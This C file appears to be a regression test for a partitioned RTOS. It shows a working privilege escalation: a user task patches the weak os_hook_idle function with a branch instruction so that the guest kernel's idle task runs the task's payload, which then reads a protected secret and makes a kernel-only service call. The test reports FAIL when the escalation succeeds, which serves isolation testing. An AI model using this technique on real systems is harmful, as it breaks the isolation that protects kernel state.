/*
 * rthook - attacker: a task takes guest-kernel rights through the idle
 * hook of the tick core.
 *
 * os_hook_idle() (os.h, docs/rtos.md: "Called by the idle task on each
 * loop") is a weak function of the guest kernel; an application that
 * defines it, as the documentation invites, defines it in the user range,
 * and the final link makes the guest kernel's idle task (guest-kernel
 * mode) call that user-range code. The build's check of the guest kernel
 * (mk/partitioned.mk, pv_gk.o: no undefined symbol outside PV_GK_EXTERNS)
 * does not see it: the weak definition is a defined symbol, overridden
 * only at the final link. A task may write the whole user range, so it
 * overwrites the first two words of the application's harmless hook with
 * "ldr pc, [pc, #-4]" and the address of its payload, then sleeps: the
 * idle task runs the payload in guest-kernel mode. The payload proves its
 * rights by reading a guest-kernel word (gk_secret, OS_KOBJ) and by
 * making a guest-kernel-only service call (TIMER_SET).
 *
 * The run ends with
 *   RESULT rt-idlehook FAIL idle task ran task code ...   (status 1)
 * when the escalation worked, "RESULT rt-idlehook PASS" (status 0) if the
 * payload did not run with those rights within 100 ms.
 */
#include <stdint.h>
#include <stdio.h>

#include "os.h"
#include "pv_svc.h"

#define GK_SECRET 0xC0DE6C5Eu

static OS_KOBJ volatile uint32_t gk_secret = GK_SECRET;
static OS_KOBJ struct os_task task;
static _Alignas(8) port_stack_t stack[512];

/* What the payload saw (user memory: the task reads it afterwards). */
static volatile uint32_t seen_calls, seen_secret;
static volatile int32_t seen_timer_set = 1;
static volatile uint32_t idle_loops;

/* The application's idle hook: harmless, as an application would have. */
void os_hook_idle(void)
{
    idle_loops++;
}

/* Entered instead of os_hook_idle, from the idle task. */
void rthook_payload(void);
void rthook_payload(void)
{
    if (seen_calls++ == 0u) {
        seen_secret = gk_secret;
        seen_timer_set = pv_svc(PK_SVC_TIMER_SET, 0xFFFFFFFFu, 0xFFFFFFFFu,
                                0u);
    }
}

static void run(void *arg)
{
    (void)arg;
    os_delay(2u);
    printf("rthook: idle hook ran %lu times before the patch\n",
           (unsigned long)idle_loops);
    /* Control: the task itself may not make a guest-kernel call. */
    int32_t r = pv_svc(PK_SVC_TIMER_SET, 0xFFFFFFFFu, 0xFFFFFFFFu, 0u);
    printf("rthook: TIMER_SET from the task gives %ld\n", (long)r);

    volatile uint32_t *m = (volatile uint32_t *)(uintptr_t)&os_hook_idle;
    os_critical_enter();
    m[1] = (uint32_t)(uintptr_t)rthook_payload;
    m[0] = 0xE51FF004u; /* ldr pc, [pc, #-4] */
    os_critical_exit();
    os_delay(100u); /* the idle task runs meanwhile */
    printf("rthook: payload calls=%lu secret=0x%08lx timer_set=%ld\n",
           (unsigned long)seen_calls, (unsigned long)seen_secret,
           (long)seen_timer_set);
    int fail = seen_calls != 0u && seen_secret == GK_SECRET &&
               seen_timer_set == 0;
    if (fail)
        printf("RESULT rt-idlehook FAIL idle task ran task code: "
               "gk_secret=0x%08lx, TIMER_SET returned 0\n",
               (unsigned long)seen_secret);
    else
        printf("RESULT rt-idlehook PASS\n");
    pv_test_exit(fail ? 1 : 0);
}

int main(void)
{
    os_init();
    os_task_create(&task, "rthook", run, NULL, 2, stack, 512u);
    os_start();
}
